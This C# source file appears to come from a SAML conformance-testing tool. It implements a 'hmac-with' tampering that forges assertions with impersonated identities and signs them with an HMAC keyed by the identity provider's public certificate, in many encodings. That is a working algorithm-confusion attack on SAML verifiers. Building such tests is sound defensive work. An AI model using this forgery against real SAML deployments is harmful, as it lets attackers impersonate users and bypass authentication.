using System.Text;
using Conformance.Saml.Forging;
using Conformance.Saml.Keys;
using Conformance.Saml.Messages;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;
using Conformance.Saml.Tamperings.Signatures;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>An HMAC whose key is the IdP's public certificate.</summary>
internal sealed class HmacWith(TamperingArguments arguments) : Tampering
{
    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "hmac-with",
            "Forges the message and signs it with an HMAC keyed by the bytes of the IdP's certificate, which everybody "
            + "knows: a verifier that lets the message choose the algorithm uses its certificate as that key.",
            "The HMAC is right under those bytes; the forged values are not covered.",
            [
                new("secret", "Which representation of the certificate.",
                [
                    "pem", "pem-no-newline", "pem-crlf", "pem-one-line", "pem-unwrapped", "base64", "der", "spki-pem",
                    "spki-pem-no-newline", "spki-der",
                ]),
                new("method", "Which HMAC.", ["hmac-sha1", "hmac-sha256", "hmac-sha384", "hmac-sha512"]),
                Impersonation.Parameter,
            ]),
        arguments => new HmacWith(arguments));

    public override string Name => "hmac-with";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var secret = Secret(work.Context.IdpKey);
        var template = SignatureTemplate.From(work.Draft) with
        {
            HmacKey = secret,
            SignatureMethod = AlgorithmWords.Find(arguments.Required("method")),
            KeyInfo = KeyInfoForm.X509Certificate,
        };
        var signed = SignedPlaces.Signed(work, "all");
        Impersonation.Apply(SignedPlaces.Assertion(work), target, work);
        foreach (var element in signed)
        {
            element.RemoveChild(Dom.Signature(element)!);
            XmlSigner.Sign(element, template);
        }

        work.Claim(new HmacStands(secret));
        work.Claim(new ForgedUncovered(Impersonation.Values(work.Context, target)));
    }

    private byte[] Secret(SigningKey key)
    {
        var spki = key.Certificate.PublicKey.ExportSubjectPublicKeyInfo();
        return arguments.Text("secret") switch
        {
            "pem-no-newline" => Encoding.ASCII.GetBytes(key.CertificatePem.TrimEnd()),
            "pem-crlf" => Encoding.ASCII.GetBytes(key.CertificatePem.ReplaceLineEndings("\r\n")),
            "pem-one-line" => Encoding.ASCII.GetBytes(key.CertificatePem.ReplaceLineEndings("")),
            "pem-unwrapped" => Encoding.ASCII.GetBytes(
                $"-----BEGIN CERTIFICATE-----\n{key.CertificateBase64}\n-----END CERTIFICATE-----"),
            "base64" => Encoding.ASCII.GetBytes(key.CertificateBase64),
            "der" => key.Certificate.RawData,
            "spki-pem" => Encoding.ASCII.GetBytes(
                new string(System.Security.Cryptography.PemEncoding.Write("PUBLIC KEY", spki)) + "\n"),
            "spki-pem-no-newline" => Encoding.ASCII.GetBytes(
                System.Security.Cryptography.PemEncoding.Write("PUBLIC KEY", spki)),
            "spki-der" => spki,
            _ => Encoding.ASCII.GetBytes(key.CertificatePem),
        };
    }
}
